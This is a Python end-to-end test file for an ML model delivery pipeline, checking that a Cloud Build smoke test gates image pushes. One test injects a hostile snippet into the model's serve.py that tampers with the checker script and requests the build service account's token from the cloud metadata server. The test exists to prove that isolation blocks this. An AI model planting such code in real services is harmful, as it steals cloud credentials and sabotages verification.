"""The smoke test inside the build, on the local stack: the built image is run by its own Cloud Build build,
checked against the digits golden set, and pushed only when it passed."""

from __future__ import annotations

import json
import time
from datetime import datetime
from pathlib import Path
from typing import Any

from cd4ml_models import folder as models

from cd4ml import events
from cd4ml.stages import delivery
from tests.e2e.conftest import EXAMPLE, Pipeline
from tests.e2e.test_delivery import _alias_digest, _types


def _build(pipeline: Pipeline, run: dict[str, Any]) -> dict[str, Any]:
    """The run's Build as the local Cloud Build stored it (camelCase JSON, as GetBuild returns it)."""
    path = pipeline.stack.root / "cloudbuild" / "builds" / f"{run['image']['build_id']}.json"
    build: dict[str, Any] = json.loads(path.read_text())
    return build


def _seconds(timing: dict[str, str]) -> float:
    start, end = (datetime.fromisoformat(timing[k].replace("Z", "+00:00")) for k in ("startTime", "endTime"))
    return (end - start).total_seconds()


def test_a_good_model_passes_its_smoke_test_in_the_build(pipeline: Pipeline) -> None:
    run = pipeline.wait(pipeline.request("digits"), timeout=300)
    assert run["status"] == "succeeded", run.get("error")
    smoke = run["smoke"]
    assert smoke["passed"] is True and smoke["failed"] == []
    assert smoke["health_sha256"] == run["model_artifact"]["sha256"]
    assert smoke["requests"] == 40 and smoke["agreement"] >= 0.9 and smoke["min_agreement"] == 0.9
    assert 0 < smoke["latency_p50_ms"] <= smoke["latency_max_ms"] <= smoke["latency_budget_ms"] == 2000
    steps = _build(pipeline, run)["steps"]
    assert [s.get("id", "") for s in steps] == ["", delivery.RUN_STEP, delivery.SMOKE_STEP, delivery.VERDICT_STEP]
    build_s, run_s, report_s, verdict_s = (_seconds(s["timing"]) for s in steps)
    print(
        f"\nbuild step {build_s:.1f} s, smoke run step {run_s:.1f} s, report step {report_s:.1f} s, "
        f"verdict step {verdict_s:.1f} s, server startup {smoke['startup_ms']:.0f} ms, "
        f"p50 {smoke['latency_p50_ms']} ms, max {smoke['latency_max_ms']} ms"
    )


def test_a_model_failing_its_golden_set_is_never_pushed_and_leaves_the_champion(
    pipeline: Pipeline, tmp_path: Path
) -> None:
    champion = pipeline.ledger.champion("digits")
    if champion is None:  # this file run alone: make a champion first
        pipeline.wait(pipeline.request("digits"), timeout=300)
        champion = pipeline.ledger.champion("digits")
    assert champion is not None
    alias = _alias_digest(pipeline, "digits", "champion")
    variant = pipeline.variant(tmp_path, "digits", {})
    golden = variant / "serving" / "smoke.jsonl"
    wrong = []
    for line in golden.read_text().splitlines():  # every expected label shifted by one: none can agree
        item = json.loads(line)
        item["expected"]["predictions"] = [(item["expected"]["predictions"][0] + 1) % 10]
        wrong.append(json.dumps(item))
    golden.write_text("\n".join(wrong) + "\n")
    models.push(pipeline.storage, variant, pipeline.settings.artifact_bucket)
    try:
        started = time.monotonic()
        run = pipeline.wait(pipeline.request("digits", run_id=pipeline.next_run_id("digits")), timeout=300)
        print(f"\nrun failed by its smoke test in {time.monotonic() - started:.1f} s")
    finally:
        models.push(pipeline.storage, EXAMPLE, pipeline.settings.artifact_bucket)
    assert run["status"] == "failed" and _types(run)[-1] == events.IMAGE_FAILED
    assert events.IMAGE_PUSHED not in _types(run) and events.CANARY_TRIGGERED not in _types(run)
    assert run["smoke"]["passed"] is False and run["smoke"]["failed"] == ["agreement"]
    assert run["smoke"]["agreed"] == 0 and run["smoke"]["checks"]["sha256"] is True
    message = run["error"]["message"]
    assert "smoke test failed: agreement: 0.00 < min_agreement 0.9 (0/40 golden requests agreed)" in message
    assert "reference" not in run["image"]  # the registry never saw it
    assert _alias_digest(pipeline, "digits", "champion") == alias
    after = pipeline.ledger.champion("digits")
    assert after is not None and after["run_id"] == champion["run_id"]


_STEAL = """
def _steal() -> str:
    \"\"\"What a model's code can take during its smoke test: the build account's token, and the checker's script.\"\"\"
    import urllib.request

    for script in ("/workspace/cd4ml_smoke.py", "/workspace/cd4ml-smoke/cd4ml_smoke.py", "/cd4ml-smoke/cd4ml_smoke.py"):
        try:  # a later step running it (report, verdict) would fail the build
            with open(script, "r+") as file:
                code = file.read()
                file.seek(0)
                file.write("raise SystemExit('tampered by the model')\\n" + code)
        except OSError:
            pass
    for host in ("169.254.169.254", "metadata.google.internal"):
        url = f"http://{host}/computeMetadata/v1/instance/service-accounts/default/token"
        try:
            answer = urllib.request.urlopen(urllib.request.Request(url, headers={"Metadata-Flavor": "Google"}), timeout=2)
            return "stolen:" + json.loads(answer.read())["access_token"][:48]
        except Exception:
            continue
    return ""


STOLEN = _steal()
"""


def test_a_models_code_gets_no_token_during_its_smoke_test(pipeline: Pipeline, tmp_path: Path) -> None:
    """A model whose server, as it starts in the smoke test, asks the metadata server for the build account's token
    (with which it could push to its repository or move its alias on Cloud Build) and tampers with the checker it
    can see. It reports what it took in /health: a token there fails the sha256 check. Run with --network=none and
    only cd4ml-smoke/ mounted, it takes nothing, and the later steps run cd4ml's own checker untouched."""
    variant = pipeline.variant(tmp_path, "digits", {})
    serve = variant / "serving" / "serve.py"
    text = serve.read_text()
    text = text.replace("MODEL_PATH = os.environ.get", _STEAL + "\n\nMODEL_PATH = os.environ.get", 1)
    text = text.replace('"model_sha256": Handler.model_sha256}', '"model_sha256": STOLEN or Handler.model_sha256}')
    assert "STOLEN or Handler" in text
    serve.write_text(text)
    models.push(pipeline.storage, variant, pipeline.settings.artifact_bucket)
    try:
        run = pipeline.wait(pipeline.request("digits", run_id=pipeline.next_run_id("digits")), timeout=300)
    finally:
        models.push(pipeline.storage, EXAMPLE, pipeline.settings.artifact_bucket)
    smoke = run.get("smoke") or {}
    assert not str(smoke.get("health_sha256", "")).startswith("stolen:"), "the smoke test's server got a token"
    assert run["status"] == "succeeded", run.get("error")
    assert smoke["passed"] is True and smoke["health_sha256"] == run["model_artifact"]["sha256"]
